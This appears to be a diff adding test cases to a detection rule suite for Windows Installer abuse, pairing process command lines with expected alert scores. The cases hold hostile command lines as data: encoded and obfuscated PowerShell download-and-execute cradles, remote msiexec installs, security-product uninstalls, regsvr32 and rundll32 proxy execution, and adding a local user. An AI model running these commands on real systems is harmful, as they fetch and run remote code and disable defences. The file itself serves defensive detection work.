@@ -43,6 +43,7 @@ DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://h/a')"
 REMOVE = """powershell (Get-WmiObject Win32_Product -Filter "Name='McAfee Agent'").Uninstall()"""
 INVOKE = "powershell Invoke-CimMethod -ClassName Win32_Product -MethodName Install -Arguments @{{PackageLocation='{}'}}"
 COM = "$i=New-Object -ComObject WindowsInstaller.Installer; $i.InstallProduct('https://h/a.msi')"
+CLSID = COM.replace("-ComObject WindowsInstaller.Installer", "CLSID 000C1090-0000-0000-C000-000000000046")
 
 
 def encoded(text):
@@ -100,6 +101,12 @@ CASES = [
     (FETCH, copy("svc.exe /i http://h/x.msi", r"C:\a\svc.exe"), None),
     (FETCH, started(r"msiexec /y \\h\s\x.dll"), None),  # a registration
     (FETCH, started("MsiExec.exe -Embedding 9F17CF72F57573D6B6AE5214F745A83C"), None),
+    (FETCH, started('msiexec /i " http://h/x.msi" /q'), 49),
+    (FETCH, started("msiexec.exe/ihttp://h/x.msi /q"), 49),
+    # No other switch hides a package.
+    (FETCH, started("msiexec -Embedding A /i http://h/x.msi /qn"), 49),
+    (FETCH, started(r"msiexec /i http://h/x.msi /y C:\Windows\System32\scrobj.dll /qn"), 49),
+    (ZAP, started(r"msiexec.exe/zC:\a.dll"), 40),
     # -- started by what installs nothing
     (PARENT, started(r"msiexec /i C:\x.msi", parent_process_name="WINWORD.EXE"), 30),
     (PARENT, started("", parent_process_name=r"C:\Windows\System32\wbem\WmiPrvSE.exe"), 30),
@@ -124,6 +131,25 @@ CASES = [
     (CHILD, child("regsvr32.exe", "regsvr32 /s /n /u /i:http://h/a.sct scrobj.dll"), 42),
     (CHILD, child("wscript.exe", r"wscript C:\Users\a\AppData\Local\Temp\x.vbs"), 28),
     (CHILD, child("ipconfig.exe", "ipconfig /all"), 42),
+    (CHILD, child("powershell.exe", f"powershell --enc {encoded(DOWNLOAD)}"), 63),  # - or -- (PowerShell's parser)
+    (CHILD, child("powershell.exe", f'powershell "-enc" "{encoded(DOWNLOAD)}"'), 63),
+    (CHILD, child("cmd.exe", f"cmd /c powershell -enc {encoded(DOWNLOAD)}"), 63),
+    (CHILD, child("powershell.exe", "powershell I`EX (N`ew-Object Net.Web`Client).Down`loadString('http://h')"), 42),
+    (CHILD, child("cmd.exe", "cmd /c who^ami"), 42),
+    (CHILD, child("curl.exe", "curl -o a h.example/a"), 38.5),
+    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\x.dll,Go"), 42),
+    (CHILD, child("rundll32.exe", "rundll32.exe C:/Users/a/AppData/Roaming/x.dll,Go"), 42),
+    (CHILD, child("rundll32.exe", "rundll32.exe //h/s/x.dll,Go"), 42),
+    (CHILD, child("wscript.exe", "wscript C:/Users/Public/x.vbs"), 28),
+    # Words of the package's author lower nothing.
+    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\AppData\Roaming\x.dll,GetOSVersion"), 42),
+    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\AppData\Roaming\MSI1.tmp,Go"), 42),
+    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\x.dll,Go ,zzzzInvokeManagedCustomActionOutOfProc"), 42),
+    (CHILD, child("whoami.exe", r"whoami /all C:\Program Files\a\ "), 42),
+    (CHILD, child("cmd.exe", r"cmd /c net user a b /add & rem C:\Program Files\a"), 35),
+    (CHILD, child("powershell.exe", r"powershell IEX(iwr http://h/a) #C:\Program Files\ "), 42),
+    (CHILD, child("wscript.exe", r'wscript C:\x.vbs "C:\Program Files\a"'), 10.5),
+    (CHILD, child("cmd.exe", r'cmd /c "C:\Program Files\..\a.bat"'), 14),
     # What packages use every day, if it says nothing more, is informational.
     (CHILD, child("powershell.exe", "powershell.exe -nop -Command Write-Host VBScript executed; exit"), 14),  # Atomic
     (CHILD, child("MSI4F2A.tmp", r'"C:\Windows\Installer\MSI4F2A.tmp" Hello from an EXE'), 14),  # Atomic
@@ -155,6 +181,8 @@ CASES = [
         59.5,
     ),  # QakBot
     (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /DontWait /HideWindow "C:\Users\a\AppData\Local\a.exe" /s'), 31.5),
+    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp"/HideWindow msbuild C:\a.xml'), 49),
+    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /HideWindow C:/Users/a/a.exe'), 31.5),
     (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /HideWindow C:\Vendor\setup.exe'), None),
     (HIDDEN, child("a.exe", "a /HideWindow rundll32 x", parent_process_name="b.exe"), None),
     (HIDDEN, child("a.exe", "a --nohidewindow rundll32 x"), None),
@@ -173,6 +201,8 @@ CASES = [
     (SILENT, started(r"msiexec /q /i C:\Users\a\Downloads\invoice.png", "wscript.exe"), 50),
     (SILENT, started(r"a.exe /q /i C:\Users\Public\a.msi", "mshta.exe", process_name="a.exe"), 50),
     (SILENT, started(r"msiexec /i C:\Users\a\AppData\Local\Temp\{A}\s.msi /qn", parent_process_name="setup.exe"), 5),
+    (SILENT, started(r"msiexec /q /i C:\Users\a\Downloads\a.png", parent_process_name="setup.exe"), 32.5),
+    (SILENT, started(r"msiexec /q /i C:\Users\a\a.msi TRANSFORMS=https://dl.google.com/a.mst"), 20),
     (SILENT, started(r"msiexec /i C:\Users\a\Downloads\a.msi"), None),
     (SILENT, started(r"msiexec /i C:\Windows\ccmcache\1\a.msi /qn"), None),
     (SILENT, started(r'msiexec /i "C:\Program Files\Vendor\a.msi" /quiet'), None),
@@ -207,6 +237,9 @@ CASES = [
     (FAKE, started("msiexec /i x", process_path=r"C:\Windows\msiexec.exe"), 48),
     (FAKE, started("msiexec /i x", process_path=r"C:\Windows\System32\a\msiexec.exe"), 48),
     (FAKE, started("msiexec /i x", process_path=r"D:\Windows\System32\msiexec.exe"), 20),
+    (FAKE, started("msiexec /i x", process_path=r"C:\Files\Windows\System32\msiexec.exe"), 48),
+    (FAKE, started("msiexec", process_path=r"E:\Windows\System32\msiexec.exe", original_file_name="nc.exe"), 72),
+    (FAKE, started("msiexec /i x", process_path=r"\\?\C:\Windows\System32\msiexec.exe"), None),
     (FAKE, started("msiexec /i x"), None),
     (FAKE, started("msiexec /i x", process_path=r"C:\Windows\SysWOW64\MSIEXEC.EXE", original_file_name=""), None),
     (
@@ -225,6 +258,15 @@ CASES = [
     (REMOVAL, started("msiexec /i {1BCBF52C-CD1B-454D-AEF7-852F73967318} REMOVE=ALL /l*v C:\\Sophos.log /qn"), 52),
     (REMOVAL, other("wmic.exe", 'wmic product where name="ESET Agent" call uninstall /nointeractive'), 60),
     (REMOVAL, other("powershell.exe", REMOVE), 52),
+    (REMOVAL, started(f"msiexec /i {SOPHOS} REMOVE=ALL /qn"), 52),
+    (REMOVAL, started(f"msiexec /x {{1BCBF52C-CD1B-454D-AEF7-852F73967318}};{SOPHOS} /qn"), 52),
+    (REMOVAL, started(rf"msiexec /y C:\Windows\System32\scrobj.dll /x {SOPHOS}"), 44),
+    (REMOVAL, other("wmic.exe", f"wmic product where \"IdentifyingNumber='{SOPHOS}'\" call uninstall"), 52),
+    (REMOVAL, other("powershell.exe", "powershell gcim Win32_Product|? Name -like *Sophos*|icim -Me Uninstall"), 52),
+    (REMOVAL, other("powershell.exe", "powershell gcim Win32_Product|? Name -like *Sophos*|icim Uninstall"), 52),
+    (REMOVAL, started(f"msiexec /i {SOPHOS} REINSTALL=ALL"), None),
+    (REMOVAL, started(r"msiexec /x C:\Users\a\Downloads\avg-price.msi"), None),
+    (REMOVAL, started(r"msiexec /x C:\src\sysmonitor\a.msi"), None),
     (REMOVAL, started("msiexec /x {1BCBF52C-CD1B-454D-AEF7-852F73967318} /qn"), None),
     (REMOVAL, started(r"msiexec /i C:\Install\Sophos.msi /qn"), None),
     (REMOVAL, other("wmic.exe", 'wmic product where name="Sophos AutoUpdate" get version'), None),
@@ -239,6 +281,19 @@ CASES = [
     (OTHER, other("wmic.exe", r'wmic /node:ws2 product call install true,"","\\files\s\a.msi"'), 28),
     (OTHER, other("devinit.exe", "devinit.exe run -t msi-install -i https://h/a.msi"), 45.5),
     (OTHER, other("rundll32.exe", "rundll32 shell32.dll,ShellExec_RunDLL msiexec /q /i https://h/a.msi"), 56),
+    (
+        OTHER,
+        other("powershell.exe", "powershell icim Win32_Product Install @{PackageLocation='https://h/a.msi'}"),
+        45.5,
+    ),
+    (OTHER, other("powershell.exe", "powershell iwmi -Class Win32_Product -Name:Install $true,'','https://h/a'"), 45.5),
+    (
+        OTHER,
+        other("powershell.exe", "powershell ([wmiclass]'Win32_Product').InvokeMethod('Install','https://h/a')"),
+        45.5,
+    ),
+    (OTHER, other("devinit.exe", "devinit.exe run --tool msi-install --input https://h/a.msi"), 45.5),
+    (OTHER, other("powershell.exe", CLSID), 45.5),
     (OTHER, other("wmic.exe", "wmic product get name,version"), None),
     (OTHER, other("powershell.exe", "powershell Get-CimInstance -ClassName Win32_Product | select Name"), None),
     (
